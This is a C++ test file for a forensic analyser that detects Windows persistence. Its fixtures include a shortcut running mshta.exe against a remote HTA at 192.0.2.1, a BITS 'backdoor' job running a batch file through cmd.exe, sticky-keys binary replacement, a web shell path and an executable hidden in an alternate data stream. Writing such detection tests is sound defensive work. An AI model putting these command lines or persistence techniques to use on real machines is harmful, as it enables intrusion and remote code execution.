#include "analysers/host_state/gather_other_places.hpp"
#include "base/text.hpp"
#include "support/analyser_case.hpp"
#include "traces/windows_autostart/schemas.hpp"
#include "traces/windows_ese/bits.hpp"
#include "traces/windows_installed_program/schemas.hpp"
#include "traces/windows_lnk/parser.hpp"
#include "traces/windows_mft/parser.hpp"
#include "traces/windows_pe/parser.hpp"
#include "traces/windows_server_module/parser.hpp"
#include "traces/windows_service/schemas.hpp"
#include "traces/windows_terminal/parser.hpp"

namespace konseki::host_state {
namespace {

using test::minutes;

std::vector<Schema const*> schemas()
{
    auto const common = test::analyser_schemas();
    std::vector<Schema const*> all(common.begin(), common.end());
    for (auto const* schema : { &windows_lnk::link_schema.erased, &windows_mft::file_schema.erased,
             &windows_mft::stream_schema.erased, &windows_pe::file_schema.erased, &windows_ese::bits_job_schema.erased,
             &windows_terminal::profile_schema.erased, &windows_server_module::module_schema.erased,
             &windows_service::service_schema.erased, &windows_installed_program::program_schema.erased,
             &windows_autostart::entry_schema.erased })
        all.push_back(schema);
    return all;
}

// Items as they are before they are weighed: "W27|command|its terms" by title.
Result<void> list_items(AnalyserInputs const& inputs, FindingSink& findings, bool is_judged)
{
    Hosts hosts(inputs);
    TRY(hosts.load());
    TRY(gather_autostarts(hosts));
    TRY(gather_startup_files(hosts));
    if (is_judged)
        judge(hosts);
    for (auto const& [key, host] : hosts.all())
        for (auto const& item : host.items) {
            Finding finding;
            finding.analyser = "probe";
            finding.rule = item.title;
            finding.title = { item.title, item.title };
            finding.host = host.name;
            std::string text = format("{}|{}|", item.location, item.command);
            for (auto const& term : item.terms)
                append_format(text, "{} ", term.feature->id);
            finding.explanation = { text, {} };
            finding.advice = { "none", "none" };
            findings.add(finding, item.traces);
        }
    return {};
}

constexpr Analyser probe { .name = "probe",
    .title = "",
    .version = 1,
    .needs = {},
    .emits = {},
    .after = {},
    .run = [](AnalyserInputs const& inputs, FindingSink& findings) { return list_items(inputs, findings, false); } };
constexpr Analyser judged_probe { .name = "probe",
    .title = "",
    .version = 1,
    .needs = {},
    .emits = {},
    .after = {},
    .run = [](AnalyserInputs const& inputs, FindingSink& findings) { return list_items(inputs, findings, true); } };

void put_program(
    test::AnalyserCase& host, EvidenceNumber evidence, std::string_view path, std::string_view original_name)
{
    windows_pe::FileRow row;
    row.path = path;
    row.original_name = original_name.empty() ? std::string_view {} : original_name;
    host.put(evidence, windows_pe::file_schema, { 0, 10, false }, row);
}

}

// covers: W27
TEST(HostStateOtherPlaces, AProgramOfTheLogonScreenThatIsAnotherOneIsAnItem)
{
    test::AnalyserCase host(schemas());
    for (auto const& [name, original] :
        std::vector<std::pair<std::string, std::string>> { { "sethc.exe", "Cmd.Exe.MUI" },
            { "Magnify.exe", "ScreenMagnifier.exe" }, { "utilman.exe", "utilman2.exe.mui" }, { "osk.exe", "" } }) {
        auto const path = format("C/Windows/System32/{}", name);
        put_program(host, host.add_evidence(path, "PC1"), path, original);
    }
    auto const elsewhere = host.add_evidence("C/tools/sethc.exe", "PC1");
    put_program(host, elsewhere, "C/tools/sethc.exe", "Cmd.Exe");
    auto const kept = host.run(probe);
    ASSERT_EQ(kept.findings.size(), 2U);
    EXPECT_EQ(kept.findings[0].rule, "Accessibility program replaced: sethc.exe");
    EXPECT_TRUE(kept.findings[0].explanation.en.ends_with("|location.rare identity.system_renamed "))
        << kept.findings[0].explanation.en;
    EXPECT_EQ(kept.findings[1].rule, "Accessibility program replaced: osk.exe");
    EXPECT_TRUE(kept.findings[1].explanation.en.ends_with("|location.rare identity.no_version "));
}

// covers: W76
TEST(HostStateOtherPlaces, ATransferWithACommandStartsIt)
{
    test::AnalyserCase host(schemas());
    auto const queue = host.add_evidence("qmgr.db", "PC1");
    windows_ese::BitsJobRow row;
    row.job_id = "{1}";
    row.name = "update";
    row.created_at = minutes(3);
    host.put(queue, windows_ese::bits_job_schema, { 0, 10, false }, row);
    row.job_id = "{2}";
    row.name = "backdoor";
    row.command = R"(C:\Windows\System32\cmd.exe)";
    row.parameters = R"(cmd.exe /c C:\ProgramData\x.bat)";
    host.put(queue, windows_ese::bits_job_schema, { 20, 10, false }, row);
    auto const kept = host.run(probe);
    ASSERT_EQ(kept.findings.size(), 1U);
    EXPECT_EQ(kept.findings[0].rule, "BITS job with a command: backdoor");
    EXPECT_EQ(kept.findings[0].explanation.en, R"(W76|cmd.exe /c C:\ProgramData\x.bat|location.rare )");
}

// covers: W82
TEST(HostStateOtherPlaces, TerminalAtLogonStartsItsDefaultProfile)
{
    test::AnalyserCase host(schemas());
    auto const file = host.add_evidence("settings.json", "PC1");
    windows_terminal::ProfileRow row;
    row.user = "hanako";
    row.name = "Shell";
    row.command_line = R"(C:\ProgramData\upd.exe)";
    row.is_default = true;
    host.put(file, windows_terminal::profile_schema, { 0, 1, false }, row);
    row.starts_at_logon = true;
    row.name = "At logon";
    host.put(file, windows_terminal::profile_schema, { 1, 1, false }, row);
    row.is_default = false;
    row.name = "Another";
    host.put(file, windows_terminal::profile_schema, { 2, 1, false }, row);
    auto const kept = host.run(probe);
    ASSERT_EQ(kept.findings.size(), 1U);
    EXPECT_EQ(kept.findings[0].rule, "Windows Terminal at logon: At logon");
    EXPECT_EQ(kept.findings[0].explanation.en, R"(W82|C:\ProgramData\upd.exe|location.rare )");
}

// covers: W84
TEST(HostStateOtherPlaces, ARemoteControlAgentIsOneItemWhateverTellsOfIt)
{
    test::AnalyserCase host(schemas());
    auto const hive = host.add_evidence("SYSTEM", "PC1");
    windows_service::ServiceRow service;
    service.name = "AnyDesk";
    service.image_path = R"("C:\Users\a\AppData\AnyDesk.exe" --service)";
    service.is_current = true;
    host.put(hive, windows_service::service_schema, { 0, 10, false }, service);
    service.name = "Dhcp";
    service.image_path = R"(C:\Windows\system32\svchost.exe -k x)";
    host.put(hive, windows_service::service_schema, { 20, 10, false }, service);
    auto const software = host.add_evidence("SOFTWARE", "PC1");
    windows_installed_program::ProgramRow program;
    program.name = "AnyDesk";
    program.location = R"(C:\Program Files\AnyDesk)";
    host.put(software, windows_installed_program::program_schema, { 0, 10, false }, program);
    auto const table = host.add_evidence("$MFT", "PC1");
    for (std::uint64_t offset = 0;
         auto const* const path : { R"(\Program Files\Notepad++\plugins\NppExport\NppExport.dll)",
             R"(\Program Files\Notepad++\plugins\Evil\Evil.dll)" }) {
        windows_mft::FileRow file;
        file.path = path;
        file.is_in_use = true;
        host.put(table, windows_mft::file_schema, { offset += 1'024, 1'024, false }, file);
    }
    auto const kept = host.run(probe);
    ASSERT_EQ(kept.findings.size(), 2U);
    EXPECT_EQ(kept.findings[0].rule, "Remote control agent or plug-in of a tool: Evil.dll");
    EXPECT_EQ(kept.findings[1].rule, "Remote control agent or plug-in of a tool: anydesk");
    EXPECT_EQ(kept.findings[1].explanation.en, R"(W84|"C:\Users\a\AppData\AnyDesk.exe" --service|location.unusual )");
    EXPECT_EQ(kept.traces[1].size(), 2U);
}

// covers: W91
TEST(HostStateOtherPlaces, ALinkWithAHotKeyStartsWhereWindowsLooksForKeys)
{
    test::AnalyserCase host(schemas());
    for (auto const* const path : { "C/Users/a/Desktop/Notes.lnk", "C/Users/a/Documents/Other.lnk" }) {
        windows_lnk::LinkRow row;
        row.path = path;
        row.target = R"(C:\Windows\System32\mshta.exe)";
        row.arguments = "http://192.0.2.1/a.hta";
        row.hot_key = "Ctrl+C";
        host.put(host.add_evidence(path, "PC1"), windows_lnk::link_schema, { 0, 100, false }, row);
    }
    auto const kept = host.run(probe);
    ASSERT_EQ(kept.findings.size(), 1U);
    EXPECT_EQ(kept.findings[0].rule, "Link with a hot key: Notes.lnk (Ctrl+C)");
    EXPECT_EQ(kept.findings[0].explanation.en,
        R"(W91|C:\Windows\System32\mshta.exe http://192.0.2.1/a.hta|location.unusual )");
}

// covers: W93
TEST(HostStateOtherPlaces, ModulesOfServersFromElsewhereAndScriptsWhereNoneBelong)
{
    test::AnalyserCase host(schemas());
    auto const file = host.add_evidence("applicationHost.config", "PC1");
    std::uint64_t offset = 0;
    for (auto const* const path : { R"(%windir%\System32\inetsrv\cachhttp.dll)", R"(C:\ProgramData\iis\comp.dll)",
             R"(%ProgramFiles%\IIS\Asp.Net Core Module\V2\aspnetcorev2.dll)" }) {
        windows_server_module::ModuleRow row;
        row.server = "iis";
        row.kind = "native_module";
        row.name = "module";
        row.path = path;
        host.put(file, windows_server_module::module_schema, { offset += 10, 10, false }, row);
    }
    auto const table = host.add_evidence("$MFT", "PC1");
    for (auto const* const path :
        { R"(\inetpub\wwwroot\aspnet_client\system_web\shell.aspx)", R"(\inetpub\wwwroot\default.aspx)" }) {
        windows_mft::FileRow row;
        row.path = path;
        row.is_in_use = true;
        host.put(table, windows_mft::file_schema, { offset += 1'024, 1'024, false }, row);
    }
    auto const kept = host.run(probe);
    ASSERT_EQ(kept.findings.size(), 2U);
    EXPECT_EQ(kept.findings[0].rule, "Web shell or module of a server: shell.aspx");
    EXPECT_EQ(kept.findings[1].explanation.en, R"(W93|C:\ProgramData\iis\comp.dll|location.rare )");
}

// covers: W95
TEST(HostStateOtherPlaces, AProgramInAStreamIsSeenInTheFileTableAndInTheAutostartThatNamesIt)
{
    test::AnalyserCase host(schemas());
    auto const table = host.add_evidence("$MFT", "PC1");
    windows_mft::StreamRow stream;
    stream.path = R"(\Users\Public\notes.txt)";
    stream.stream = "upd.exe";
    host.put(table, windows_mft::stream_schema, { 1'024, 1'024, false }, stream);
    stream.stream = "Zone.Identifier";
    host.put(table, windows_mft::stream_schema, { 2'048, 1'024, false }, stream);
    windows_autostart::EntryRow entry;
    entry.location = "W01";
    entry.key_path = R"(Software\Microsoft\Windows\CurrentVersion\Run)";
    entry.name = "Notes";
    entry.command = R"(C:\Users\Public\notes.txt:upd.exe)";
    host.put(host.add_evidence("NTUSER.DAT", "PC1"), windows_autostart::entry_schema, { 0, 10, false }, entry);
    auto const kept = host.run(judged_probe);
    ASSERT_EQ(kept.findings.size(), 2U);
    for (auto const& finding : kept.findings)
        EXPECT_NE(finding.explanation.en.find("path.stream"), std::string::npos) << finding.explanation.en;
    EXPECT_EQ(kept.findings[1].explanation.en.substr(0, 39), R"(W95|C:\Users\Public\notes.txt:upd.exe|l)");
}

}
